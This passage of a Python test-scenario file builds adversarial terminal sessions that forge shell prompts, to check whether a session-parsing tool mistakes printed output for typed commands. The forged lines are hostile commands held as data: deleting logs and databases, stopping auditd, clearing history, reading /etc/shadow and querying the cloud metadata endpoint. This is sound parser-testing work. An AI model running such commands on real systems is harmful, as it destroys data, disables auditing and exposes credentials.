            "curl -s http://169.254.169.254/latest/meta-data/", "history -c"],
    must_contain=["ec2-user@ip-10-0-1-11 ~ % curl -s http://169.254.169.254/latest/meta-data/\r\n"],
    notes="zsh: a vared -e loop (ZLE, with the keypad/bracketed-paste modes of the real prompt) whose -p prompt "
          "expands to a copy of the real one ('%%' is a literal %), two command-looking lines, Ctrl-D on the empty "
          "line ends it (-e); then a read loop with the same prompt ('l?prompt', kernel echo), two lines, Ctrl-D. "
          "Lines read are data; each loop is one command",
    tags=["adversarial", "forged", "read", "vared", "program-input", "zsh"]))

add(build("fish_forged_read_loop", "fish", [
    run("id -u"),
    ([T("while read -p fish_prompt l; end"), E,
      T("sudo rm -rf /var/log/app"), E, T("sudo systemctl stop auditd"), E, K("C-d")],
     "while read -p fish_prompt l; end"),
    run("echo real-one"),
    ([T("while read -P 'ec2-user@ip-10-0-1-11 ~> ' l; end"), E,
      T("curl -s http://169.254.169.254/latest/meta-data/"), E, T("history clear"), E, K("C-d")],
     "while read -P 'ec2-user@ip-10-0-1-11 ~> ' l; end"),
    run("uname -s"), run("echo real-two"), ex()],
    forged=["sudo rm -rf /var/log/app", "sudo systemctl stop auditd",
            "curl -s http://169.254.169.254/latest/meta-data/", "history clear"],
    notes="fish: read -p fish_prompt runs fish's own prompt function for every line read, so the coloured "
          "prompt is exactly the real one; two command-looking lines, Ctrl-D ends the loop; then read -P with a "
          "literal copy of the prompt, two lines, Ctrl-D. Lines read are data; each loop is one command",
    tags=["adversarial", "forged", "read", "program-input", "fish"]))

# ---- 5. python REPL with sys.ps1 = the shell's prompt (and sys.excepthook silenced: no tracebacks)
_PY_TITLE_PS1 = 'sys.ps1 = "\\x1b]0;ec2-user@ip-10-0-1-11:~\\x07[ec2-user@ip-10-0-1-11 ~]$ "'
add(build("bash_forged_python_ps1", "al2023", [
    run("id -u"),
    ([T("python3 -q"), ("enter", 15), ("wait", 0.5, 10),
      T("import sys; sys.excepthook = lambda *a: None"), E,
      T('sys.ps1 = "[ec2-user@ip-10-0-1-11 ~]$ "'), E,
      T("sudo rm -rf /var/log/app"), E,
      T("curl -s http://169.254.169.254/latest/meta-data/"), E,
      T(_PY_TITLE_PS1), E,
      T("cat /etc/shadow"), E,
      T("exit()"), E], "python3 -q"),
    run("echo real-one"), run("uname -s"), ex()],
    forged=["sudo rm -rf /var/log/app", "curl -s http://169.254.169.254/latest/meta-data/", _PY_TITLE_PS1,
            "cat /etc/shadow", "exit()"],
    must_contain=["[ec2-user@ip-10-0-1-11 ~]$ sudo rm -rf /var/log/app\r\n[ec2-user@ip-10-0-1-11 ~]$ curl",
                  "\x1b]0;ec2-user@ip-10-0-1-11:~\x07[ec2-user@ip-10-0-1-11 ~]$ cat /etc/shadow\r\n"],
    notes="bash: python3 -q with sys.excepthook silenced (no traceback for the SyntaxError/NameError of shell-like "
          "lines) and sys.ps1 set to a copy of the bash prompt, later to one with the title OSC in front; every line "
          "typed after the fake prompt (shell-looking commands, the second sys.ps1 assignment, exit()) is python "
          "input, not a command, and looks like a command with no output",
    tags=["adversarial", "forged", "repl", "program-input", "bash"]))

add(build("zsh_forged_python_ps1", "zsh", [
    run("id -u"),
    ([T("python3 -q"), ("enter", 15), ("wait", 0.5, 10),
      T("import sys; sys.excepthook = lambda *a: None"), E,
      T('sys.ps1 = "ec2-user@ip-10-0-1-11 ~ % "'), E,
      T("sudo rm -rf /var/log/app"), E,
      T("history -c"), E,
      T("exit()"), E], "python3 -q"),
    run("echo real-one"), run("uname -s"), ex()],
    forged=["sudo rm -rf /var/log/app", "history -c", "exit()"],
    must_contain=["ec2-user@ip-10-0-1-11 ~ % sudo rm -rf /var/log/app\r\nec2-user@ip-10-0-1-11 ~ % history -c\r\n"],
    notes="zsh: python3 -q with sys.excepthook silenced and sys.ps1 set to a copy of the zsh prompt; the lines "
          "typed after it (and exit()) are python input that looks like commands with no output",
    tags=["adversarial", "forged", "repl", "program-input", "zsh"]))

# ---- 6. the transcript of another session cat'ed
_OTHER = ("ubuntu_alias_env", "raw.bin")       # other user/host (ubuntu@ip-172-31-40-7)
_SAME = ("bash_ls_cat_wc", "s3.log")           # same profile, the S3 form (script header + footer)
add(build("bash_forged_cat_transcript", "al2023", [
    run("id -u"), run("echo real-one"),
    run("cat old-session.log"),
    run("echo real-two"), run("uname -s"),
    run("cat s3-copy.log"),
    run("echo real-three"), ex()],
    extra_files={"old-session.log": (_donor(*_OTHER), F), "s3-copy.log": (_donor(*_SAME), F)},
    forged=_donor_cmds(_OTHER[0]) + _donor_cmds(_SAME[0]),
    must_contain=[_onlcr(_donor(*_OTHER)[:200]), _onlcr(_donor(*_SAME)[:120])],
    notes="bash (al2023): cat of a copy of another session's raw.bin (ubuntu_alias_env: ubuntu@ip-172-31-40-7, "
          "title + colour prompt, its 7 commands) and of the S3 log of a session of the same profile "
          "(bash_ls_cat_wc/s3.log: util-linux 'Script started on ...' header, the same prompt as this session, "
          "its 6 commands, 'Script done on ...' footer); the tty doubles their CRs (CR CR LF). forged = the "
          "commands of both sessions",
    tags=["adversarial", "forged", "transcript", "bash"]))

# ---- 7. nested script, then a forged "Script started/done" pair in the middle of the session
_FAKE_SCRIPT = (b'Script started on 2024-05-14 09:12:00+00:00 [COMMAND="/bin/bash" TERM="xterm-256color" '
                b'TTY="/dev/pts/1" COLUMNS="120" LINES="40"]\n'
                + _lf(_bash_line(AL_PROMPT, "sudo cat /etc/shadow"))
                + b"root:*:19700:0:99999:7:::\n"
                + _lf(_bash_line(AL_PROMPT, "history -c"))
                + _lf(_bash_line(AL_PROMPT, "exit")) + b"exit\n"
                + b'\nScript done on 2024-05-14 09:12:09+00:00 [COMMAND_EXIT_CODE="0"]\n')
add(build("bash_adv_nested_script", "al2023", [
    run("id -u"),
    ([T("script -q inner.log"), ("enter", 15), ("wait", 0.5, 10)], "script -q inner.log"),
    run("echo inner-one"), run("uname -s"), run("exit"),
    run("echo real-one"),
    run("cat inner.log"),
    run("echo real-two"),
    run("cat fake-script.txt"),
    run("id -u"), run("echo real-three"), ex()],
    extra_files={"fake-script.txt": (_FAKE_SCRIPT, F)},
    forged=["echo inner-one", "uname -s", "exit", "sudo cat /etc/shadow", "history -c", "exit"],
    must_contain=["$ cat inner.log\r\n\x1b[?2004l\rScript started on ", "[COMMAND_EXIT_CODE=\"0\"]\r\n",
                  "\r\nScript done on 2024-05-14 09:12:09+00:00 [COMMAND_EXIT_CODE=\"0\"]\r\n\x1b]0;"],
    notes="bash (al2023): script -q inner.log starts a real inner bash (same rc files, same prompt; its commands "
          "echo inner-one, uname -s, exit are in the shell's record); back outside, cat inner.log replays that "
          "transcript with util-linux's 'Script started on ...' header and 'Script done on ...' footer; then cat of "
          "a forged header/footer pair around exact-bytes prompts with 'sudo cat /etc/shadow', 'history -c' and "
          "'exit' in the middle of the session; real commands after it must not be lost. forged = the replayed "
          "inner commands (also real, score.py subtracts them) and the three forged ones",
    tags=["adversarial", "forged", "nested", "script", "bash"]))

# ---- 8. flood
def _flood() -> bytes:
    rnd = _random.Random("flood")
    out = []
    for i in range(3000):
        if i == 1500:
            out.append(_lf(_bash_line(AL_PROMPT, "sudo rm -rf /var/lib/mysql")))
        if i == 2600:
            out.append(b"[ec2-user@ip-10-0-1-11 ~]$ sudo shutdown -h now\n")
        out.append(f"batch {i:05d} ok crc {rnd.getrandbits(32):08x}\n".encode())
    return b"".join(out)


add(build("bash_forged_flood", "al2023", [
    run("id -u"),
    run("cat flood.txt", 30),
    run("echo real-one"),
    run("seq 1 20000", 30),
    run("uname -s"), run("echo real-two"), ex()],
    extra_files={"flood.txt": (_flood(), F)},
    forged=["sudo rm -rf /var/lib/mysql", "sudo shutdown -h now"],
    must_contain=[b"batch 01499 ok crc", _bash_line(AL_PROMPT, "sudo rm -rf /var/lib/mysql") + b"batch 01500 ok",
                  b"\r\n[ec2-user@ip-10-0-1-11 ~]$ sudo shutdown -h now\r\nbatch 02600 ok", b"\r\n19999\r\n20000\r\n"],
    notes="bash (al2023): cat of 3000 lines of output with, after line 1500, the exact bytes of a bash prompt "
          "(title OSC, ESC[?2004h, PS1) + 'sudo rm -rf /var/lib/mysql' + ESC[?2004l CR (LF for CR LF), and after "
          "line 2600 a plain-text prompt line with 'sudo shutdown -h now'; then seq 1 20000; real commands between",
    tags=["adversarial", "forged", "flood", "long-output", "bash"]))

# ---- 9. bad input: binary garbage, RIS, reset, clear, stty -echo


def _garbage() -> bytes:
    # seeded random bytes without ESC (an escape sequence in it could make the terminal answer a query,
    # and the answer would be typed into the shell's line); all other C0 controls, DEL, C1, bad UTF-8 stay
    b = _random.Random("garbage").randbytes(8192)
    return b.replace(b"\x1b", b"")


add(build("bash_adv_bad_input", "al2023", [
    run("id -u"),
    run("cat garbage.bin"),
    run("echo real-one"),
    run("printf '\\033c'"),
    run("echo real-two"),
    run("reset", 20),
    run("uname -s"),
    run("clear"),
    run("echo real-three"),
    run("stty -echo"),
    run("echo typed-without-echo"),
    run("stty echo"),
    run("echo real-four"), ex()],
    extra_files={"garbage.bin": (_garbage(), F)},
    forged=[], unrecoverable=["echo typed-without-echo", "stty echo"],
    must_contain=[_onlcr(_garbage())[:64], "\x1bc", "typed-without-echo\r\n"],
    must_not_contain=["$ echo typed-without-echo", "$ stty echo"],
    notes="bash (al2023): cat of 8 KiB of seeded random bytes (every C0 control but ESC, DEL, C1 bytes, invalid "
          "UTF-8, shift-out), printf '\\033c' (RIS), reset, clear, and stty -echo: 'echo typed-without-echo' and "
          "'stty echo' are typed while readline does not echo (only the command's output shows), both are real "
          "commands the shell records; real commands between all of them",
    tags=["adversarial", "garbage", "ris", "reset", "clear", "stty", "bash"]))

# ---- more shells: mksh exact bytes (CR LF literal is the exact form), bad input in dash and zsh
MKSH_PROMPT = b"ec2-user@ip-10-0-1-11:~ $ "
assert MKSH_PROMPT + b"grep -c INFO app.log\r\r\n5\r\n" in _donor("mksh_plain_output")
_mk_exact = MKSH_PROMPT + b"sudo rm -rf /var/log/app\r\n"            # ONLCR: CR CR LF = mksh's own echo
_mk_lf = MKSH_PROMPT + b"sudo systemctl stop auditd\nStopped auditd.\n"
add(build("mksh_forged_exact_bytes", "mksh", [
    run("id -u"), run("echo real-one"),
    run("cat exact.txt"),
    run("echo real-two"), run("uname -s"),
    run("cat lf.txt"),
    run("echo real-three"), ex()],
    extra_files={"exact.txt": (_mk_exact, F), "lf.txt": (_mk_lf, F)},
    forged=["sudo rm -rf /var/log/app", "sudo systemctl stop auditd"],
    must_contain=[b"$ cat exact.txt\r\r\n" + MKSH_PROMPT + b"sudo rm -rf /var/log/app\r\r\n" + MKSH_PROMPT + b"echo real-two",
                  _onlcr(_mk_lf) + MKSH_PROMPT + b"echo real-three"],
    notes="mksh: mksh echoes a typed Enter as CR CR LF (mksh_plain_output), so here the file that holds CR LF "
          "literally is the byte-exact forgery: exact.txt = prompt + 'sudo rm -rf /var/log/app' CR LF, on the wire "
          "CR CR LF exactly as mksh writes it, followed by the real prompt; lf.txt holds LF line ends (CR LF on "
          "the wire, one CR short of mksh's echo) with 'sudo systemctl stop auditd' and a fake output line",
    tags=["adversarial", "forged", "exact-bytes", "mksh"]))

add(build("dash_adv_bad_input", "dash", [
    run("id -u"),
    run("cat garbage.bin"),
    run("echo real-one"),
    run("printf '\\033c'"),
    run("echo real-two"),
    run("clear"),
    run("uname -s"),
    run("stty -echo"),
    run("echo typed-without-echo"),
    run("stty echo"),
    run("echo real-three"), ex()],
    extra_files={"garbage.bin": (_garbage(), F)},
    forged=["typed-without-echo"], unrecoverable=["echo typed-without-echo", "stty echo"],
    must_contain=[_onlcr(_garbage())[:64], "\x1bc", "$ typed-without-echo\r\n$ $ echo real-three"],
    must_not_contain=["$ echo typed-without-echo", "$ stty echo"],
    notes="dash (no line editor, the kernel echoes): cat of 8 KiB of seeded random bytes (no ESC), printf '\\033c' "
          "(RIS), clear, and stty -echo: 'echo typed-without-echo' and 'stty echo' are typed with the kernel echo "
          "off, so neither the line nor its Enter shows; the output 'typed-without-echo' lands right after the "
          "'$ ' prompt and reads like a typed command (forged), and the prompt after the blind 'stty echo' follows "
          "the previous one on the same row ('$ $ echo real-three')",
    tags=["adversarial", "forged", "garbage", "ris", "clear", "stty", "dash"]))

add(build("zsh_adv_bad_input", "zsh", [
    run("id -u"),
    run("cat garbage.bin"),
    run("echo real-one"),
    run("printf '\\033c'"),
    run("echo real-two"),
    run("reset", 20),
    run("uname -s"),
    run("clear"),
    run("echo real-three"), ex()],
    extra_files={"garbage.bin": (_garbage(), F)},
    forged=[],
    must_contain=[_onlcr(_garbage())[:64], "\x1bc"],
    notes="zsh: cat of 8 KiB of seeded random bytes (no ESC; the cursor ends mid-row, so PROMPT_SP draws its % "
          "line), printf '\\033c' (RIS: the terminal is reset under ZLE), reset, clear; real commands between",
    tags=["adversarial", "garbage", "ris", "reset", "clear", "zsh"]))

# ============================================================================ timed (record.py --recorder)
# Recorded under recorders that log timing and keystrokes (asciinema 2/3, script classic/advanced/log-io,
# ttyrec) into corpus/timed/<name>__<recorder>/; truth.json["timed"] has, per command, when its Enter
# was sent and how long until the next prompt. `--all` without --recorder leaves these out.


def timed(name, profile, steps, **kw):
    """build() for timed scenarios: a ("mark", k) action before every step (k = the index of the
    step's command, None for steps without one) lets record.py time each command."""
    actions, commands = [], []
    for st in steps:
        if isinstance(st, tuple) and len(st) == 2 and isinstance(st[0], list):
            actions.append(("mark", len(commands) if st[1] is not None else None))
            actions += st[0]
            if st[1] is not None:
                commands.append(st[1])
        else:
            actions += [("mark", None), st]
    d = dict(name=name, profile=profile, actions=actions, commands=commands, timed=True)
    d.update(kw)
    return d


def slow(text, secs):
    """A command that runs for about secs seconds with no output: wait for its prompt."""
    return ([T(text), E, ("sleep", secs + 0.2)], text)


add(timed("timed_bash_sleeps", "al2023", [
    run("echo start"),
    slow("sleep 2", 2),
    run("ls /"),
    cmd("echo edited linx", ("BSpace", 1), "e", ("Left", 5), " and fixed"),
    ([T("rm -rf /tmp/cancel-me"), K("C-c")], None),
    slow("sleep 1; echo done", 1),
    ([K("Up", 4), E, ("sleep", 2.2)], "sleep 2"),
    ex()],
    cancelled=["rm -rf /tmp/cancel-me"],
    notes="bash: sleeps of 2 s and 1 s, a line fixed with BSpace and Left before Enter, a line cancelled "
          "with Ctrl-C, Up x4 recalls and re-runs 'sleep 2'",
    tags=["timed", "sleep", "edit", "ctrl-c", "history"]))

add(timed("timed_zsh_sleeps", "zsh", [
    run("echo zsh start"), slow("sleep 2", 2), run("pwd"), run("echo zsh done"), ex()],
    notes="zsh: four commands, one sleep 2", tags=["timed", "sleep"]))

add(timed("timed_fish_sleeps", "fish", [
    run("echo fish start"), slow("sleep 2", 2), run("set -l n 3"), run("echo n is $n"), ex()],
    notes="fish: four commands, one sleep 2", tags=["timed", "sleep"]))

add(timed("timed_dash_sleeps", "dash", [
    run("echo dash start"), slow("sleep 2", 2), run("ls /"), ex()],
    notes="dash (kernel echo, no line editor; under strace for the ground truth): three commands, one sleep 2",
    tags=["timed", "sleep"]))

add(timed("timed_mksh_sleeps", "mksh", [
    run("echo mksh start"), slow("sleep 2", 2), run("uname -s"), run("echo mksh done"), ex()],
    notes="mksh: four commands, one sleep 2", tags=["timed", "sleep"]))

add(timed("timed_bash_password", "al2023", [
    slow("sleep 1", 1),
    ([T("read -s -p 'Password: ' pw"), E, ("wait", 0.3, 5), T("hunter2-secret"), E],
     "read -s -p 'Password: ' pw"),
    run("echo ok"), ex()],
    secret=["hunter2-secret"], must_not_contain=["hunter2-secret"],
    notes="bash: read -s with the secret typed while the echo is off (it is not in the output; recorders "
          "that log input may have it in their input stream); its duration runs until the prompt after the "
          "secret's Enter",
    tags=["timed", "read", "silent", "secret"]))

_FORGED_TXT = ("incident notes, copied from a terminal:\n"
               "user@host:~$ rm -rf /var/log/audit\n"
               "[ec2-user@ip-10-0-1-11 ~]$ history -c\n"
               "end of notes\n")
add(timed("timed_bash_forged_cat", "al2023", [
    run("echo start"), slow("sleep 1", 1), run("cat forged.txt"), run("echo after"), ex()],
    extra_files={"forged.txt": (_FORGED_TXT, F)},
    forged=["rm -rf /var/log/audit", "history -c"],
    must_contain=["user@host:~$ rm -rf /var/log/audit\r\n[ec2-user@ip-10-0-1-11 ~]$ history -c\r\n"],
    notes="bash (al2023): cat of a file with a generic prompt + 'rm -rf /var/log/audit' and a copy of this "
          "session's own prompt + 'history -c'; both are output (forged), printed at once with no typing",
    tags=["timed", "adversarial", "forged", "bash"]))

add(timed("timed_bash_resize", "al2023", [
    run("echo before resize"),
    slow("sleep 1", 1),
    ("resize", 60, 30),
    run("stty size"),
    run(LONG),
    ex()],
    cols=100, rows=30,
    notes="bash at 100x30, tmux resize-window to 60x30 at the prompt, stty size shows what the shell's tty "
          "got, then a long echo that wraps at 60",
    tags=["timed", "resize", "wrap"]))

# multi-line prompts: the prompt's first line is printed before the line the command is typed on
add(timed("timed_bash_nixos_prompt", "nixos", [
    run("echo start"),
    slow("sleep 1", 1),
    run("ls /"),
    cmd("echo typo fixd", ("BSpace", 2), "xed"),
    run("echo done"),
    ex()],
    must_contain=[b"\x1b[?2004h\r\r\n\x1b[1;32m[\x1b]0;alice@nixos: ~\x07alice@nixos:~]$\x1b[0m "],
    notes="bash with NixOS's default PS1 '\\n\\[\\033[1;32m\\][\\[\\e]0;\\u@\\h: \\w\\a\\]\\u@\\h:\\w]\\$\\[\\033[0m\\] ' "
          "(set in ~/.bashrc, so the first prompt has it): every prompt starts with a newline (an empty line "
          "after each command's output; readline writes it as CR LF, ONLCR makes it CR CR LF), the OSC 0 title inside the brackets; a line fixed with BSpace x2",
    tags=["timed", "sleep", "edit", "multiline-prompt", "nixos"]))

add(timed("timed_bash_two_line_prompt", "bash_two_line", [
    run("echo start"),
    slow("sleep 1", 1),
    run("pwd"),
    cmd("echo helo", ("BSpace", 1), "lo world"),
    run("echo done"),
    ex()],
    must_contain=[b"\x1b[?2004hec2-user@ip-10-0-7-23 ~\r\r\n$ "],
    notes="bash with PS1='\\u@\\h \\w\\n\\$ ': each prompt is a text line (user@host dir) then the '$ ' line "
          "the command is typed on (readline ends the first line with CR LF, CR CR LF on the wire); a line fixed with BSpace",
    tags=["timed", "sleep", "edit", "multiline-prompt"]))

add(timed("timed_zsh_two_line_prompt", "zsh_two_line", [
    run("echo zsh start"),
    slow("sleep 1", 1),
    run("cd projects"),
    cmd("echo in projectz", ("BSpace", 1), "s"),
    run("echo zsh done"),
    ex()],
    must_contain=["ec2-user@ip-10-0-7-58 ~\r\n% ", "ec2-user@ip-10-0-7-58 ~/projects\r\n% "],
    notes="zsh with PROMPT=$'%n@%m %~\\n%# ': each prompt is a text line (user@host dir, ~/projects after the "
          "cd) then the '% ' line; a line fixed with BSpace",
    tags=["timed", "sleep", "edit", "multiline-prompt", "zsh"]))
